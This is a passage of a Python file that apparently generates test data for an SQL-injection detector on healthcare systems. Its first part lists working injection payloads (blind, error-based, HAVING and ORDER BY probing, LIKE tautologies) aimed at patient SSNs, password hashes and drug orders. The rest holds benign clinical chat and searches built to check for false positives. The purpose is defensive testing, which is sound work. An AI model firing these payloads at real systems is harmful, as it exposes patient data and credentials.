    "rand((select ascii(substr(user(),1,1)))=114)",
    "' order by (select 1 from (select sleep(5))x)#",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1 limit 0,1 procedure analyse()",
    "' group by 1,2 with rollup#",
    "' group by concat(version(),floor(rand(0)*2)) having min(0)#",
    # practice management on SQL Server: the having error names the columns
    "' having 1=1--",
    "' group by Patients.PatientID having 1=1--",
    "' group by PatientID,LastName having 1=1--",
    "(case when (select top 1 substring(SSN,1,1) from Patients)='1' then LastName else FirstName end)",
    "1 having 1=1",
    "' group by pid having 1=1--",
    # FHIR search layer on PostgreSQL, sort column
    "birthdate,(select case when current_user='postgres' then 1 else 1/0 end)",
    "1 asc,(select 1 from pg_sleep(5))",
    "family,(select case when (1=1) then family else birthdate end)",
    # LIMS on Oracle: sort by an expression
    "(case when (select substr(user,1,1) from dual)='L' then sample_id else collected_at end)",
    "1 desc nulls last,(select 1/0 from dual)",
    # device console on SQLite
    "' order by 5--",
    "(case when (select count(*) from sqlite_master)>3 then serial else model end)",
    "' union select 1,2 from patient_data group by 1 having count(*)>1#",
    "' group by password having 1=1#",
]

# like/between/in operators: wildcard and range conditions over PHI columns
OPERATORS: list[Entry] = [
    # EHR on MySQL
    "' or lname like '%'#",
    "%' or '1'='1",
    "1 and (select ss from patient_data limit 1) like '123%'",
    "' and (select password from users_secure where username='admin') like '$2a$%'#",
    "' or ascii(substr(user(),1,1)) between 100 and 120#",
    "' or pid in (select pid from patient_data)#",
    "' or user() regexp '^r'#",
    "' or user() rlike 'root'#",
    "' or 1 like 1#",
    "' or 5 between 1 and 9#",
    # practice management on SQL Server
    "' or ssn like '1%'--",
    "' or mrn between 0 and 9999999--",
    "' and substring((select top 1 SSN from Patients),1,1) between '0' and '4'--",
    "%' and 1 in (select count(*) from Patients)--",
    "' or dob between '1900-01-01' and '2100-01-01'--",
    "' or diagnosis like 'F%'--",
    # pharmacy: every controlled-substance order
    "' or drug_name in ('oxycodone','fentanyl')--",
    # FHIR search layer on PostgreSQL
    "' or 'x' ilike 'X'--",
    "' or (select usename from pg_user limit 1) similar to 'p%'--",
    "' or 1 not in (0)--",
    "' or username not like ''--",
    # LIMS on Oracle
    "' or 1 in (select 1 from dual)--",
    "' or 'A' between 'A' and 'Z'--",
    "' or exists(select 1 from dba_users where username like 'SYS%')--",
    # device console on SQLite
    "' or 1 glob 1--",
    "' or name glob '*'--",
    "' or 'a' in ('a')--",
    "1 or 1 in (1,2)",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]

# sub-families whose fixed `name=value` entries go as raw bracket-operator pairs
RAW_KV_SUBS = {"nosql-injection"}


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["mrn", "patient_id", "family", "q", "accession", "sort", "npi", "claim_id", "record_id", "sample_id"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (clinicians, lab staff and health-IT engineers in Slack, their bios,
# searches for colleagues by ward, links to portals and docs, pasted HL7/FHIR/SQL snippets, export file names)
CHAT = [
    # clinic operations and appointments (no real patient data)
    "Dr. Okafor's Tuesday clinic is overbooked again, can someone move the 3pm follow-ups to Thursday?",
    "reminder: the union meeting for nursing staff is at 12:30 in the Ward 4 break room",
    "select the 'telehealth' visit type in the scheduler or the video link won't be sent",
    "can we order the new glucometers for 3 West? the old ones keep dropping the sleep mode setting",
    "patient portal says 'Your appointment could not be booked. Please try again later.' for everyone since 9am",
    "anyone covering the drop-in flu clinic on Saturday? need 2 RNs and a pharmacist",
    "the between-shift handover sheet now has a 'pending labs' column, please fill it in",
    "who can update the on-call rota? Dr. Lee and Dr. Marsh swapped the weekend",
    "waiting room screens show 'delay 20 min' for cardiology, that's from the late start",
    "Oncology day unit is closed on the 26th for the fire drill, rebook infusions where you can",
    # lab and LIMS
    "HbA1c reference range on the new analyser is 20-42 mmol/mol, the LIMS still prints the old one",
    "K+ 5.8 mmol/L (ref 3.5-5.3) flagged H, repeat sample was haemolysed so ignore the first result",
    "sample S-2024-00017 is stuck in 'received' status, the barcode scanner dropped the accession",
    "the LIMS export is a CSV with sample_id, test_code, result_value, units, ref_low, ref_high",
    "LOINC 2345-7 is serum glucose, 2339-0 is blood glucose, please don't mix them in the mapping table",
    "we group by test_code and order by collected_at desc for the daily QC report, it takes 40 seconds now",
    "CRP like 180 on the ward round, microbiology wants blood cultures before antibiotics",
    "anyone know why the coag analyser results are null for INR after the firmware update?",
    "haemolysis index between 50 and 100 means we add a comment, above 100 we reject the sample",
    "the courier drops samples in the pathology lift, not the pneumatic tube, until the tube is fixed",
    # interfaces and HL7 v2
    "MSH|^~\\&|LAB|HOSP|EHR|HOSP|20240612083000||ORU^R01|MSG00001|P|2.5.1 is what the lab sends us",
    "PID|1||123456^^^HOSP^MR||DOE^JANE||19800101|F is the test patient from the vendor's spec, not real",
    "OBX|1|NM|2345-7^Glucose^LN||5.4|mmol/L|3.9-5.8|N|||F",
    "Mirth channel 'ADT inbound' errored: 'ERROR: duplicate key value violates unique constraint pk_encounter'",
    "the interface engine dropped ORM^O01 messages overnight, the queue had 412 pending at 7am",
    "ACK came back AE with 'Segment sequence error', the vendor put NTE before OBR",
    "HL7 field separators are | and ^ and the escape is \\E\\, that's why the note looks weird in the viewer",
    "ADT^A08 updates from registration overwrite the GP field, raised with the PAS team",
    "the A40 merge message needs the MRG segment or the EHR refuses it",
    "we filter out test patients where the MRN starts with 'ZZ' before the feed goes to the warehouse",
    # FHIR
    "GET /fhir/Patient?family=smith&birthdate=ge1980-01-01&_count=50 returns 0 for me, works in the sandbox",
    "use _include=Observation:patient if you want the Patient in the same Bundle",
    "_sort=-date works on Observation but _sort=code gives 'Unknown sort parameter'",
    "the $everything operation on Patient times out after 30s for anyone with more than 5 years of history",
    "our FHIR server rejects _filter, use chained params like subject:Patient.name=smith instead",
    "Bundle.entry.resource.resourceType must be 'Observation', the validator says we sent 'observation'",
    "for the CapabilityStatement check GET /fhir/metadata, it lists which search params are supported",
    "the SMART launch fails with 'invalid_scope: patient/*.read', we need patient/Observation.read",
    "FHIR Observation.valueQuantity.value 7.2, unit '%', system http://unitsofmeasure.org, code '%'",
    "the HAPI JPA server's hfj_resource table is 40 GB now, we should reindex at night",
    # DICOM and PACS
    "the CT study 1.2.840.113619.2.55.3.604688119.969.1268071029.320 won't open in the web viewer",
    "WADO-RS returns 406 unless you ask for multipart/related; type=application/dicom",
    "PACS worklist shows the accession twice, the modality sent the study with a new StudyInstanceUID",
    "the DICOM C-FIND from the US machine times out, the AE title on the PACS side is RADPACS01",
    "radiology wants the MRI exports as DICOMDIR on a USB stick for the outside referral",
    "Orthanc on the research box is only for anonymised studies, don't send live ones there",
    # pharmacy and e-prescribing
    "metformin 500 mg twice daily with meals, up to 2 g a day, the order set had 850 mg by default",
    "EPCS needs two-factor for controlled substances, the token app is on the ward iPads",
    "NDC 0002-8215-01 is insulin lispro, the pharmacy system shows it as inactive",
    "the drug interaction check flagged warfarin and fluconazole, INR monitoring ordered",
    "pharmacy is out of the 5 mL vials, substitute with 10 mL and update the MAR",
    "the e-prescribing queue has 14 scripts 'pending transmission' since the Surescripts outage",
    # billing, claims and coding
    "claim CLM-2024-08813 was denied with CO-97, the procedure is bundled with the E/M code",
    "ICD-10 E11.9 vs E11.65 matters for the risk adjustment, please code the hyperglycaemia",
    "the 837P batch failed validation: 'NM1*85 loop 2010AA missing NPI'",
    "payer portal wants the prior auth number in the REF*G1 segment",
    "CPT 99213 vs 99214 depends on medical decision making now, not the time",
    "the remittance file (835) shows adjustments grouped by CARC, export it for finance by Friday",
    # SQL and reporting among health-IT engineers
    "SELECT COUNT(*) FROM encounters WHERE discharge_date IS NULL; gives 312, the bed board says 298",
    "the warehouse query needs GROUP BY ward_id HAVING COUNT(*) > 5 or the small wards are identifiable",
    "use LIKE 'E11%' to catch all the type 2 diabetes codes, not = 'E11'",
    "WHERE admit_date BETWEEN '2024-01-01' AND '2024-03-31' for Q1, the report was off by one day",
    "please don't run the union of the two patient tables on prod during clinic hours",
    "the stored procedure usp_merge_patients takes 4 minutes, we should index mrn",
    "DROP TABLE on staging only, I had a scare this morning with the wrong connection tab open",
    "the ORDER BY on the waiting list report puts nulls first in Postgres, add NULLS LAST",
    "REDCap export of the survey is a CSV with record_id, redcap_event_name and the field names",
    "we use parameterised queries in the LIMS integration, the old string concatenation is gone",
    "the SQL Server job that refreshes the dashboard failed with 'Arithmetic overflow error converting to int'",
    "waitfor delay in the ETL is a hack, replace it with a proper dependency on the load job",
    "pg_sleep in the migration script is only there to wait for the replica, it's fine",
    "use CAST(result_value AS numeric) only where result_type = 'NM', the text results break it",
    "the Mongo collection for telehealth sessions uses $lookup to join the provider profile",
    "SQL Server 2016 goes out of extended support, the PACS vendor says they certified 2019 only",
    # medical devices
    "the infusion pump library update rolled out to 3 of 5 wards, the rest on Monday",
    "device console says 'Firmware 4.2.1 available' for the ventilators, biomed must approve first",
    "the patient monitors on ICU lost the central station link, network team is on it",
    "serial SN-88231 is the pump that keeps alarming 'occlusion downstream', pulled for testing",
    # bios
    "Clinical informatics nurse, 12 years on medical wards. I translate between the EHR team and the bedside.",
    "Integration engineer: HL7 v2, FHIR R4, Mirth Connect, SQL Server and far too many ADT feeds.",
    "Lab systems manager for pathology. LIMS, analyser interfaces, QC rules and reference ranges.",
    "PACS administrator. DICOM, worklists, WADO, and the occasional lost study.",
    "Data engineer on the research warehouse: Postgres, dbt, OMOP mapping and de-identification.",
    "Pharmacist with an interest in e-prescribing safety and drug interaction alerts.",
    "Biomedical engineer looking after infusion pumps, monitors and the device management console.",
    "Revenue cycle analyst: claims, denials, 835/837 files and a lot of Excel.",
    "Telehealth product owner. Appointment booking, video visits and the patient portal app.",
    "REDCap administrator for the clinical trials unit; ask me about survey branching logic.",
]

SEARCHES = [
    "ward 4",
    "cardiology",
    "radiology PACS admin",
    "pathology lab",
    "O'Brien",
    "D'Souza",
    "on-call pharmacist",
    "ICU nurse",
    "Union Hospital",
    "HL7 interface",
    "FHIR",
    "Mirth",
    "REDCap admin",
    "biomed",
    "claims denials",
    "oncology day unit",
    "Dr. Select",
    "telehealth",
    "LIMS",
    "order sets",
    "group practice north",
    "night shift",
    "coder ICD-10",
    "research data warehouse",
    "Smith-Jones",
    "McDonald",
    "maternity",
    "A&E triage",
    "infection control",
    "pharmacy & therapeutics",
    "between shifts",
    "like minds wellbeing",
]

URLS = [
    "https://portal.example-hospital.org/appointments?clinic=cardiology&date=2024-06-12",
    "https://fhir.example-hospital.org/fhir/Patient?family=smith&_count=20&_sort=-birthdate",
    "https://fhir.example-hospital.org/fhir/Observation?code=http://loinc.org|2345-7&_include=Observation:patient",
    "https://fhir.example-hospital.org/fhir/Patient/123/$everything?_since=2024-01-01",
    "https://hl7.org/fhir/R4/search.html#sort",
    "https://hl7.org/fhir/R4/operation-patient-everything.html",
    "https://pacs.example-hospital.org/wado?requestType=WADO&studyUID=1.2.840.113619.2.55.3&contentType=image/jpeg",
    "https://pacs.example-hospital.org/dicomweb/studies?AccessionNumber=ACC2024061201&includefield=all",
    "https://lims.example-lab.org/samples?status=received&order=collected_at&dir=desc",
    "https://redcap.example-university.edu/redcap/surveys/?s=7HJ3KD9PLX",
    "https://claims.example-payer.com/status?claim_id=CLM-2024-08813",
    "https://www.nlm.nih.gov/research/umls/rxnorm/index.html",
    "https://loinc.org/2345-7",
    "https://www.cms.gov/medicare/coding-billing/place-of-service-codes",
    "https://docs.mirthcorp.com/connect/",
    "https://www.postgresql.org/docs/current/functions-matching.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://wiki.example-hospital.org/display/IT/HL7+ADT+feed+runbook",
    "https://telehealth.example-clinic.com/visit/join?code=4KQ9-ZP2M",
    "https://devices.example-hospital.org/console/pumps?ward=ICU&sort=last_seen",
]

PROSE = [
    "Patient portal: appointment booking fails with 'Unable to select a time slot' for the union street clinic",
    "FHIR Patient search by family name and birthdate returns duplicates after the MPI merge",
    "HL7 ADT A08 from registration overwrites the GP practice code, please investigate the mapping",
    "LIMS: results for sample S-2024-00017 not transmitted to the EHR, ORU stuck in the queue",
    "PACS web viewer shows a blank page for study 1.2.840.113619.2.55.3, other studies open fine",
    "Request: export of appointments between 2024-01-01 and 2024-03-31 grouped by clinic for the audit",
    "Pharmacy system: NDC 0002-8215-01 shows as inactive although the product is in stock",
    "Claims portal: CO-97 denials increased after the 1 June fee schedule update",
    "REDCap: survey link for the follow-up questionnaire returns 'record does not exist'",
    "Telehealth: video visit drops after 10 minutes on the hospital guest Wi-Fi",
    "Device console: infusion pump SN-88231 reports 'occlusion downstream' repeatedly",
    "Reference range for potassium on the new analyser is 3.5-5.3 mmol/L, please update the order catalogue",
    "Please add Dr. O'Neill to the on-call group for cardiology from Monday",
    "Sort order of the ward list is wrong: beds are ordered by name instead of bed number",
    "Interface error: 'Conversion failed when converting the varchar value to data type int' on OBX-5",
    "The drop-down for visit type is missing 'telehealth follow-up' in the scheduler",
    "Research warehouse: the cohort query with like 'C50%' returns breast cancer codes only, as expected",
    "Metformin 500 mg order set defaults to 850 mg, please correct the default dose",
    "EHR login page says 'Invalid username or password' for all nurses on 3 West since the AD sync",
    "Need read access to the DICOM archive for the teaching file project (anonymised studies only)",
    "The having-trouble-logging-in page on the portal links to the old help desk number",
    "Sleep study reports are scanned as PDF and attached to the encounter, not the patient",
    "Union Hospital referrals arrive by fax and are indexed manually into the document store",
    "Bulk FHIR export ($export) for the quality registry fails with 'too many resources'",
    "Update the MAR when the 10 mL vial is substituted for the 5 mL vial",
    "Insert the new LOINC codes for the respiratory panel into the test catalogue",
    "Delete the duplicate test patient ZZTEST01 from the training environment only",
    "Benchmark: the lab dashboard takes 40 s to load, target is under 5 s",
    "Group practice north needs a second fax number for prior authorisations",
    "Where can I find the HL7 v2.5.1 implementation guide for ORU messages?",
]

PROFILES = [
    ("Dr. Aisha Union", "Cardiology, Ward 4, St Mary's Hospital, London"),
    ("Sean O'Brien RN", "ICU, Mater Hospital, Dublin"),
    ("Priya D'Souza", "Pathology Lab, Manipal Hospital, Bengaluru"),
    ("Mike Select", "Radiology, PACS office, Leeds General"),
    ("Grace Order", "Pharmacy, Level 1, Royal Infirmary, Edinburgh"),
    ("Dr. Tom Null", "Emergency Department, Townsville Hospital"),
    ("Between Shifts Staffing", "Agency nursing, Market St 4, Manchester"),
    ("Like Care Clinic", "Queen St 21, Auckland"),
    ("Char Family Practice", "King St 77, Toronto"),
    ("Hex Diagnostics Lab", "Science Park 14, Eindhoven"),
    ("Procedure Room 3", "Day Surgery Unit, Level 2, Austin"),
    ("Mongo Telehealth Team", "Remote, Lisbon"),
    ("Information Desk", "Main Entrance, Universitätsspital Zürich"),
    ("Group Practice North", "Harbour Rd 9, Plymouth"),
    ("Sleep Clinic Team", "Respiratory, Level 5, Brisbane"),
    ("Dr. Rosa Having", "Oncology Day Unit, Madrid"),
    ("Benchmark Health Analytics", "Tech Park 2, Cambridge"),
    ("Dr. Wait", "Orthopaedics, Fracture Clinic, Cardiff"),
    ("Exec Health Checks", "Harley St 10, London"),
    ("Drop-In Flu Clinic", "Community Centre, Leith"),
]

UPLOAD_NAMES = [
    "appointments_2024-06-12_cardiology.csv",
    "lims_export_sample_id_result_value_2024Q2.csv",
    "CT_1.2.840.113619.2.55.3.604688119.969.dcm",
    "DICOMDIR.zip",
    "ORU_R01_MSG00001.hl7",
    "ADT_A08_batch_20240612.hl7",
    "Patient-123-everything-bundle.json",
    "redcap_followup_survey_DATA_2024-06-12_1030.csv",
    "837P_batch_2024-06-11.x12",
    "835_remittance_CLM-2024-08813.txt",
    "reference_ranges_chemistry_v3 (final).xlsx",
    "pump_library_ICU_v4.2.1.xml",
    "union_street_clinic_rota_June.pdf",
    "select_committee_response_draft.docx",
    "waiting_list_order_by_priority.xlsx",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "HAPI-FHIR/7.2.0 (FHIR Client; FHIR 4.0.1/R4; apache)"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Mirth Connect/4.5.0"),
    ("User-Agent", "okhttp/4.12.0"),
    ("Referer", "https://portal.example-hospital.org/appointments?clinic=cardiology&date=2024-06-12"),
    ("Referer", "https://fhir.example-hospital.org/fhir/Patient?family=smith&_sort=-birthdate"),
    ("Referer", "https://hl7.org/fhir/R4/search.html"),
    ("Referer", "https://lims.example-lab.org/samples?status=received&order=collected_at"),
    ("Referer", "https://www.google.com/search?q=hl7+oru+r01+obx+segment+example"),
    ("Referer", "https://redcap.example-university.edu/redcap/index.php?pid=42"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2c9b1e-4f3a-4c8e-a1b6-2e9f0c5d8a47"),
    ("Accept-Language", "en-GB,en;q=0.9"),
    ("Cookie", "session=abc123; ward=ICU; sort=bed_number"),
    ("Cookie", "session=abc123; last_search=union%20hospital; tz=Europe%2FLondon"),
    ("Cookie", "session=abc123; clinic=cardiology; view=week"),
    ("If-None-Match", "W/\"3\""),
    ("X-Forwarded-For", "10.20.30.40"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
